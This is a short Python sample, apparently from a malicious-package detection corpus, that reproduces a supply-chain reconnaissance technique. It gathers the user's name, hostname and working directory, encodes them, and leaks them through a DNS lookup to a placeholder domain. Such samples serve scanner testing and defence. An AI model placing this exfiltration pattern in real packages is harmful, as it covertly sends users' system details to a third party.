# pkgguard corpus 409 (system-information), modelled on [checkmarx-2024]; inert, never run.
import base64
import getpass
import os
import socket

label = base64.b32encode(f"{getpass.getuser()}|{socket.gethostname()}|{os.getcwd()}".encode()).decode().strip("=").lower()
try:
    socket.getaddrinfo(f"{label[:60]}.i.example", 80)
except OSError:
    pass
